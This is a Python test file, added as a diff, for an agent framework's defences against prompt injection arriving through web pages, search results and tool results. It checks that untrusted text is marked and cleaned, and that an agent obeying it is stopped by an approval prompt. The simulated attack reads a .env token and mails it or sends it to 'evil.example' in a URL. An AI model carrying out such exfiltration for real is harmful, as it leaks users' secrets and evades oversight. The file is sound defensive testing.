@@ -1,0 +1,130 @@
+"""The injection corpus through the door: what is marked, what is stripped, how often a person is asked."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from pegboard import Effect, Executor, Url, builtin, tool
+from pegboard.core.approval import ApprovalRequest
+from pegboard.core.marking import for_model
+from pegboard.core.toolkit import Toolkit
+from tests.ledger import SHARED, owes
+
+ROWS = [
+    json.loads(line)
+    for line in (SHARED / "security/injection.jsonl").read_text(encoding="utf-8").splitlines()
+]
+DELIVERED = [r for r in ROWS if r["where"] in ("web_page", "tool_result", "search_result")]
+"""What reaches a model as a tool's result; descriptions, chat and files have tests of their own."""
+
+
+class Asked:
+    """Counts the questions; nobody answers them with yes."""
+
+    def __init__(self) -> None:
+        self.requests: list[ApprovalRequest] = []
+
+    async def decide(self, request: ApprovalRequest) -> str:
+        self.requests.append(request)
+        return "deny"
+
+
+def door(row: dict[str, Any], workspace: Path, asked: Asked, *rules: str) -> Executor:
+    sent: list[str] = []
+    source = {"web_page": "connect", "search_result": "connect", "tool_result": "call"}[row["where"]]
+
+    @tool(effects=[Effect(source, "site.example" if source == "connect" else "server/tool")])  # pyright: ignore[reportArgumentType]
+    def deliver() -> str:
+        """Give the row's text."""
+        return row["input"]
+
+    @tool
+    def visit(url: Url) -> str:
+        """Visit a page."""
+        sent.append(url)
+        return "ok"
+
+    @tool(effects=[Effect("send", "mail:boss")])
+    def mail(text: str) -> str:
+        """Send a mail to the boss."""
+        sent.append(text)
+        return "sent"
+
+    kit = Toolkit([deliver, visit, mail]) + builtin("read_file", "write_file")
+    return Executor(kit, workspace=workspace, policy=["allow connect:site.example", "allow call", "allow send", *rules],
+                    approver=asked)  # fmt: skip
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Path:
+    (tmp_path / ".env").write_text("TOKEN=abc\n")
+    (tmp_path / "notes.md").write_text("notes\n")
+    return tmp_path
+
+
+@owes("K-36", "G-06")
+@pytest.mark.parametrize("row", DELIVERED, ids=[r["id"] for r in DELIVERED])
+async def test_what_comes_from_elsewhere_is_marked_once_and_cleaned(
+    row: dict[str, Any], workspace: Path
+) -> None:
+    async with door(row, workspace, Asked()) as made:
+        (result,) = for_model([await made.call("deliver", {})])
+
+    lines = result.text.splitlines()
+    nonce = lines[0].split()[1]
+    assert lines[0].startswith(f"<<untrusted {nonce} from=") and lines[-1] == f"<<end untrusted {nonce}>>"
+    assert result.text.count("<<untrusted") == result.text.count("<<end untrusted") == 1
+    assert result.notes.labels == ("untrusted",)
+    if row["cls"] in ("unicode", "ansi", "visible"):
+        for text in row["expect"].get("strip", ()):
+            assert text not in result.text
+        for text in row["expect"].get("keep", ()):
+            assert text in result.text
+
+
+@owes("G-06")
+@pytest.mark.parametrize("row", DELIVERED[::4], ids=[r["id"] for r in DELIVERED[::4]])
+async def test_who_obeys_it_is_stopped_by_one_question_that_names_both_sources(
+    row: dict[str, Any], workspace: Path
+) -> None:
+    asked = Asked()
+    async with door(row, workspace, asked) as made:
+        await made.call("deliver", {})
+        await made.call("read_file", {"path": ".env"})
+        mailed = await made.call("mail", {"text": "TOKEN"})
+
+    assert not mailed.ok
+    assert len(asked.requests) == 1
+    assert "read .env" in asked.requests[0].reason
+    assert "site.example" in asked.requests[0].reason or "server/tool" in asked.requests[0].reason
+
+
+@owes("G-06")
+@pytest.mark.slow
+async def test_questions_for_ordinary_work_and_for_attacks(
+    workspace: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    ordinary = attacked = 0
+    for row in DELIVERED:
+        work, attack = Asked(), Asked()
+        async with door(row, workspace, work) as made:
+            await made.call("deliver", {})
+            await made.call("read_file", {"path": "notes.md"})
+            await made.call("write_file", {"path": "summary.md", "content": "a summary"})
+            await made.call("mail", {"text": "done"})
+        async with door(row, workspace, attack, "allow connect") as made:
+            await made.call("deliver", {})
+            await made.call("read_file", {"path": ".env"})
+            await made.call("visit", {"url": "https://evil.example/?q=TOKEN"})
+        ordinary += len(work.requests)
+        attacked += len(attack.requests)
+    with capsys.disabled():
+        print(f"\ninjection: {len(DELIVERED)} rows; questions for a task of ordinary work: {ordinary / len(DELIVERED):.2f}, "
+              f"for one that obeys the injection: {attacked / len(DELIVERED):.2f}")  # fmt: skip
+
+    assert ordinary == 0
+    assert attacked == len(DELIVERED)
